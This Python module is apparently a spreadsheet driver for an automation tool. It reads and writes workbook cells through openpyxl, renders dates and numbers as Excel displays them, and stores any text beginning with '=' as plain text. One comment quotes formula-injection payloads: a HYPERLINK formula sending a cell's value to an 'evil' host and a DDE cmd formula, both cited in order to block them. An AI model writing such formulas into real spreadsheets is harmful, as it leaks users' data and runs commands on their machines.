"""The spreadsheet driver: cells of real workbooks, .xlsx/.xlsm through openpyxl, beside CSV exports.

A recorded `workbook` ("StudentRecords.xlsx") is looked up under the automation's root folder: the
workbook itself when it is there (`.xlsx`, `.xlsm`), else a CSV export with the same stem. Reading a cell
returns what a person sees and copies, not the stored number: a date stored as a serial with format
`dd/mm/yyyy` reads "11/03/1986", 0.5 with format `0%` reads "50%" (`display_text`, which covers the
number formats people use for data entry; others fall back to Excel's General rendering). Writes (a
fill_field or paste whose target is a cell) go to a formula-preserving copy of the workbook, saved when
the run ends (`flush`), with macros kept for .xlsm.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from rote.generator.runtime import ActionError, Unsupported, _confine, _split_cell

_DATE_TOKENS = re.compile(
    r"yyyy|yy|mmmm|mmm|mm|m|dddd|ddd|dd|d|hh|h|ss|s|am/pm|a/p|\.0+|\"[^\"]*\"|\\.|.", re.IGNORECASE
)


def _strip_format(fmt: str) -> str:
    """The first section of a number format, without colours and locale tags ([Red], [$-409])."""
    first = fmt.split(";")[0]
    return re.sub(r"\[[^\]]*\]", "", first)


def _is_date_format(fmt: str) -> bool:
    f = re.sub(r"\"[^\"]*\"|\\.", "", _strip_format(fmt)).lower()
    return any(ch in f for ch in "dmyhs") and "general" not in f


def format_date(value: dt.date | dt.datetime | dt.time, fmt: str) -> str:
    """Render a date/time with an Excel date format (d, dd, ddd, dddd, m..mmmm, yy, yyyy, h, hh, mm, ss,
    AM/PM). "m"/"mm" right after an hour or before seconds are minutes, as in Excel."""
    tokens = _DATE_TOKENS.findall(_strip_format(fmt))
    has_ampm = any(t.lower() in ("am/pm", "a/p") for t in tokens)
    if isinstance(value, dt.time):
        value = dt.datetime.combine(dt.date(1899, 12, 30), value)
    elif not isinstance(value, dt.datetime):
        value = dt.datetime.combine(value, dt.time())
    out: list[str] = []
    for k, tok in enumerate(tokens):
        low = tok.lower()
        prev = next((t.lower() for t in reversed(tokens[:k]) if t.strip() and t[0].isalpha()), "")
        nxt = next((t.lower() for t in tokens[k + 1 :] if t.strip() and t[0].isalpha()), "")
        minutes = low in ("m", "mm") and (prev.startswith("h") or nxt.startswith("s"))
        hour = value.hour % 12 or 12 if has_ampm else value.hour
        if low == "yyyy":
            out.append(f"{value.year:04d}")
        elif low == "yy":
            out.append(f"{value.year % 100:02d}")
        elif low == "mmmm":
            out.append(value.strftime("%B"))
        elif low == "mmm":
            out.append(value.strftime("%b"))
        elif low == "mm":
            out.append(f"{value.minute:02d}" if minutes else f"{value.month:02d}")
        elif low == "m":
            out.append(str(value.minute) if minutes else str(value.month))
        elif low == "dddd":
            out.append(value.strftime("%A"))
        elif low == "ddd":
            out.append(value.strftime("%a"))
        elif low == "dd":
            out.append(f"{value.day:02d}")
        elif low == "d":
            out.append(str(value.day))
        elif low == "hh":
            out.append(f"{hour:02d}")
        elif low == "h":
            out.append(str(hour))
        elif low == "ss":
            out.append(f"{value.second:02d}")
        elif low == "s":
            out.append(str(value.second))
        elif low in ("am/pm", "a/p"):
            am = value.hour < 12
            out.append(("AM" if am else "PM") if low == "am/pm" else ("A" if am else "P"))
        elif low.startswith(".0"):
            out.append("." + f"{value.microsecond:06d}"[: len(low) - 1])
        elif tok.startswith('"'):
            out.append(tok[1:-1])
        elif tok.startswith("\\"):
            out.append(tok[1:])
        else:
            out.append(tok)
    return "".join(out)


def _general(v: float) -> str:
    if float(v).is_integer() and abs(v) < 1e15:
        return str(int(v))
    return f"{v:.10g}"


def format_number(v: float, fmt: str) -> str:
    f = _strip_format(fmt).strip()
    if not f or f.lower() == "general" or f == "@":
        return _general(v)
    percent = f.endswith("%")
    body = f.rstrip("%")
    decimals = len(body.split(".", 1)[1]) if "." in body else 0
    grouped = "," in body
    x = v * 100 if percent else v
    text = f"{x:,.{decimals}f}" if grouped else f"{x:.{decimals}f}"
    if not re.fullmatch(r"[#0,]*0(\.0+)?", body):
        return _general(v)  # a format this renderer does not know: Excel's General rendering
    return text + ("%" if percent else "")


def display_text(value: Any, number_format: str = "General") -> str:
    """What Excel shows (and a person copies) for a cell value with its number format."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, dt.datetime | dt.date | dt.time):
        fmt = number_format if _is_date_format(number_format) else "dd/mm/yyyy"
        return format_date(value, fmt)
    if isinstance(value, int | float):
        return format_number(float(value), number_format)
    return str(value)


class Sheets:
    """Spreadsheet cells from workbooks under `root`, sharing the run's clipboard."""

    EXTENSIONS = (".xlsx", ".xlsm")

    def __init__(self, root: Path, clipboard: list[str] | None = None) -> None:
        self.root = root
        self.clipboard = clipboard if clipboard is not None else [""]
        self._values: dict[str, Any] = {}  # stem -> openpyxl workbook (cached values) or CSV rows
        self._paths: dict[str, Path] = {}
        self._edits: dict[str, Any] = {}  # stem -> formula-preserving workbook being written
        self._written: dict[tuple[str, str, str], str] = {}

    def _open(self, workbook: str) -> tuple[str, Any]:
        stem = workbook.rsplit(".", 1)[0] if "." in workbook else workbook
        if not stem:
            raise ActionError("no workbook recorded for a cell action")
        if stem in self._values:
            return stem, self._values[stem]
        for ext in (*self.EXTENSIONS, ".csv"):
            path = _confine(self.root, stem + ext)
            if path.is_file():
                break
        else:
            raise ActionError(f"workbook {workbook!r} is not in {self.root} (.xlsx, .xlsm or .csv)")
        if path.suffix == ".csv":
            with path.open(newline="", encoding="utf-8") as fh:
                self._values[stem] = list(csv.reader(fh))
        else:
            from openpyxl import load_workbook

            try:
                self._values[stem] = load_workbook(path, data_only=True, read_only=False)
            except Exception as exc:  # openpyxl raises several kinds for a broken file
                raise ActionError(f"workbook {workbook!r}: {exc}") from None
        self._paths[stem] = path
        return stem, self._values[stem]

    def _sheet(self, book: Any, sheet: str | None, workbook: str) -> Any:
        if not sheet:
            return book.active
        if sheet not in book.sheetnames:
            have = ", ".join(book.sheetnames)
            raise ActionError(f"workbook {workbook!r} has no sheet {sheet!r} (it has {have})")
        return book[sheet]

    def read(self, workbook: str, sheet: str | None, cell: str) -> str:
        stem, book = self._open(workbook)
        key = (stem, sheet or "", cell.replace("$", "").upper())
        if key in self._written:
            return self._written[key]
        col, row = _split_cell(cell)
        if isinstance(book, list):  # CSV export: one sheet
            return book[row - 1][col] if row - 1 < len(book) and col < len(book[row - 1]) else ""
        c = self._sheet(book, sheet, workbook)[cell.replace("$", "")]
        return display_text(c.value, c.number_format)

    def write(self, workbook: str, sheet: str | None, cell: str, text: str) -> None:
        stem, book = self._open(workbook)
        path = self._paths[stem]
        _split_cell(cell)
        if isinstance(book, list):
            raise ActionError(f"{path.name} is a CSV export; writing cells needs the workbook itself")
        if stem not in self._edits:
            from openpyxl import load_workbook

            self._edits[stem] = load_workbook(path, keep_vba=path.suffix == ".xlsm")
        target = self._sheet(self._edits[stem], sheet, workbook)[cell.replace("$", "")]
        target.value = text
        if text.startswith("="):
            # a value, never a formula: what is written comes from recordings, pages and topics, and
            # `=HYPERLINK("https://evil/?"&A1)` or a DDE `=cmd|…` written as a formula runs in the user's
            # Excel (an attacker's sweep)
            target.data_type = "s"
        self._written[(stem, sheet or "", cell.replace("$", "").upper())] = text

    def flush(self) -> None:
        """Save the workbooks this run wrote to (atomically: a crash leaves the old file)."""
        for stem, book in self._edits.items():
            path = self._paths[stem]
            tmp = path.with_name(f".{path.name}.rote-tmp")
            book.save(tmp)
            tmp.replace(path)
        self._edits.clear()

    def close(self) -> None:
        self.flush()
        for book in self._values.values():
            if hasattr(book, "close"):
                book.close()
        self._values.clear()
        self._written.clear()

    def perform(self, op: str, target: Mapping[str, str], value: str | None) -> str | None:
        cell = target.get("cell")
        if not cell or op not in ("copy_cell", "read_cell", "fill_field", "paste"):
            raise Unsupported(op)
        workbook = target.get("workbook") or ""
        if op in ("copy_cell", "read_cell"):
            got = self.read(workbook, target.get("sheet"), cell)
            if op == "copy_cell":
                self.clipboard[0] = got
            return got
        text = (value or "") if op == "fill_field" else self.clipboard[0]
        self.write(workbook, target.get("sheet"), cell, text)
        return text
